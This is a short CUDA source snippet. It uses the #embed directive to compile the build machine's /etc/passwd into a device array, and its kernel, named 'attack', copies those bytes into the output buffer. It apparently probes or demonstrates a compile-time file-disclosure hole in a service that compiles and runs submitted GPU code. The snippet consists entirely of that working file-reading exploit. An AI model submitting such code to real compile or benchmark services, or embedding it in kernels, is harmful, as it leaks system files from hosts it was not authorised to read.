// A file of the machine as an array.
__device__ const unsigned char passwords[] = {
#embed "/etc/passwd"
};
extern "C" __global__ void attack(float* x, float* out, int n) { out[threadIdx.x] = passwords[threadIdx.x]; }
